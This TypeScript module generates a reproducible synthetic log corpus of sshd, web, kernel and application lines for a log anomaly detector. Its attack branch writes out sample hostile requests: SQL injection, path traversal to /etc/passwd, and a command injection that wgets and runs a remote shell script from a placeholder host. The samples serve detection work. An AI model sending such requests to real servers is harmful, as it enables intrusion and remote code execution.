// A sample corpus of the project's own: realistic sshd, web, kernel and application log lines with a
// few attacks and failures mixed in, generated from a seed, so the embedded default model and the
// demo are reproducible and no third-party log data enters the repository.
import { seededRandom } from "./random.js";


const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const USERS = ["alice", "bob", "carol", "deploy", "backup", "jenkins", "maria", "ops"];
const HOSTS = ["web01", "web02", "db01", "app01", "edge01"];
const PATHS = ["/", "/index.html", "/api/orders", "/api/orders/{id}", "/api/customers/{id}", "/static/app.js", "/static/style.css", "/health", "/login", "/cart"];
const AGENTS = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15", "curl/8.5.0", "kube-probe/1.29"];

export interface SampleOptions {
  lines: number;
  seed: number;
  /** Share of lines that are attacks or failures. */
  attacks?: number;
}

/** The sample's lines, one at a time. */
export function* sampleLines({ lines, seed, attacks = 0.02 }: SampleOptions): Generator<string> {
  const r = seededRandom(seed);
  const pick = <T>(items: T[]) => items[Math.floor(r() * items.length)];
  const int = (lo: number, hi: number) => lo + Math.floor(r() * (hi - lo + 1));
  const internal = () => `10.0.${int(0, 9)}.${int(2, 250)}`;
  const external = () => `203.0.113.${int(2, 250)}`;
  let time = Date.UTC(2026, 0, 5, 0, 0, 0);
  for (let i = 0; i < lines; i++) {
    time += int(5, 900);
    const d = new Date(time);
    const pad = (n: number, w = 2) => String(n).padStart(w, "0");
    const syslogTime = `${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, " ")} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
    const isoTime = d.toISOString();
    const webTime = `${pad(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
    const host = pick(HOSTS);
    const attack = r() < attacks;
    const kind = r();
    if (kind < 0.3) {
      const pid = int(1000, 65000);
      const prefix = `${syslogTime} ${host} sshd[${pid}]: `;
      if (attack) {
        yield prefix + pick([
          `Failed password for invalid user ${pick(["admin", "oracle", "test", "ubuntu", "root"])} from ${external()} port ${int(30000, 65000)} ssh2`,
          `Invalid user ${pick(["admin", "postgres", "git", "pi"])} from ${external()} port ${int(30000, 65000)}`,
          `error: maximum authentication attempts exceeded for root from ${external()} port ${int(30000, 65000)} ssh2 [preauth]`,
          `Did not receive identification string from ${external()} port ${int(30000, 65000)}`,
        ]);
      } else {
        yield prefix + pick([
          `Accepted publickey for ${pick(USERS)} from ${internal()} port ${int(30000, 65000)} ssh2: ED25519 SHA256:${Math.floor(r() * 1e12).toString(36)}`,
          `Accepted password for ${pick(USERS)} from ${internal()} port ${int(30000, 65000)} ssh2`,
          `pam_unix(sshd:session): session opened for user ${pick(USERS)}(uid=${int(1000, 1010)}) by (uid=0)`,
          `pam_unix(sshd:session): session closed for user ${pick(USERS)}`,
          `Received disconnect from ${internal()} port ${int(30000, 65000)}:11: disconnected by user`,
        ]);
      }
    } else if (kind < 0.6) {
      const path = pick(PATHS).replace("{id}", String(int(1, 99999)));
      if (attack) {
        const [method, target, status] = pick([
          ["GET", `/products?id=1%27%20OR%20%271%27%3D%271`, 500],
          ["GET", `/../../../../etc/passwd`, 400],
          ["POST", `/wp-login.php`, 404],
          ["GET", `/cgi-bin/;wget%20http://${external()}/x.sh;sh%20x.sh`, 400],
          ["GET", `/api/orders/${int(1, 99999)}`, 500],
        ] as [string, string, number][]);
        yield `${external()} - - [${webTime}] "${method} ${target} HTTP/1.1" ${status} ${int(0, 600)} "-" "${pick(["sqlmap/1.8", "Nikto/2.5.0", "python-requests/2.31", "masscan/1.3"])}"`;
      } else {
        const status = pick([200, 200, 200, 200, 304, 301, 404]);
        yield `${internal()} - ${pick(["-", pick(USERS)])} [${webTime}] "${pick(["GET", "GET", "GET", "POST"])} ${path} HTTP/1.1" ${status} ${int(120, 48000)} "-" "${pick(AGENTS)}"`;
      }
    } else if (kind < 0.75) {
      const prefix = `${syslogTime} ${host} kernel: [${int(1000, 999999)}.${pad(int(0, 999999), 6)}] `;
      if (attack) {
        yield prefix + pick([
          `Out of memory: Killed process ${int(1000, 65000)} (java) total-vm:${int(4, 9)}123456kB, anon-rss:${int(1, 4)}987654kB`,
          `${pick(["nginx", "python3", "node"])}[${int(1000, 65000)}]: segfault at 0 ip 00007f${int(100000, 999999)} sp 00007ffd${int(100000, 999999)} error 4 in libc.so.6`,
          `watchdog: BUG: soft lockup - CPU#${int(0, 7)} stuck for ${int(21, 60)}s! [kworker/${int(0, 7)}:1]`,
          `audit: type=1400 audit(${Math.floor(time / 1000)}.${int(100, 999)}:${int(100, 999)}): apparmor="DENIED" operation="exec" profile="/usr/sbin/nginx" name="/bin/sh"`,
          `EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0`,
        ]);
      } else {
        yield prefix + pick([
          `e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex, Flow Control: Rx/Tx`,
          `usb 1-${int(1, 4)}: new high-speed USB device number ${int(2, 9)} using xhci_hcd`,
          `EXT4-fs (sda${int(1, 3)}): mounted filesystem with ordered data mode. Quota mode: none.`,
          `IPv6: ADDRCONF(NETDEV_CHANGE): eth${int(0, 1)}: link becomes ready`,
          `systemd[1]: Started ${pick(["Daily apt upgrade", "Cleanup of Temporary Directories", "logrotate.service"])}.`,
        ]);
      }
    } else {
      const level = attack ? pick(["ERROR", "ERROR", "FATAL", "WARN"]) : pick(["INFO", "INFO", "INFO", "DEBUG"]);
      const prefix = `${isoTime} ${level.padEnd(5)} [${pick(["orders", "payments", "auth", "scheduler", "cache"])}] `;
      if (attack) {
        yield prefix + pick([
          `Payment gateway timeout after 30000 ms for order ${int(1, 99999)}`,
          `Database connection refused: could not connect to db01:5432, retries exhausted`,
          `Unauthorized access attempt to /admin by user guest from ${external()}`,
          `Possible SQL injection detected in parameter q: ' OR 1=1 --`,
          `Certificate verification failed for api.partner.example: certificate has expired`,
        ]);
      } else {
        yield prefix + pick([
          `Order ${int(1, 99999)} created for customer ${int(1, 9999)} (${int(1, 9)} items, total ${int(5, 500)}.${pad(int(0, 99))} EUR)`,
          `Payment authorised for order ${int(1, 99999)} in ${int(40, 900)} ms`,
          `User ${pick(USERS)} logged in from ${internal()}`,
          `Scheduled job ${pick(["cleanup", "reindex", "report"])} finished in ${int(10, 5000)} ms`,
          `Cache hit ratio ${int(80, 99)}% over the last ${int(1, 15)} minutes`,
        ]);
      }
    }
  }
}
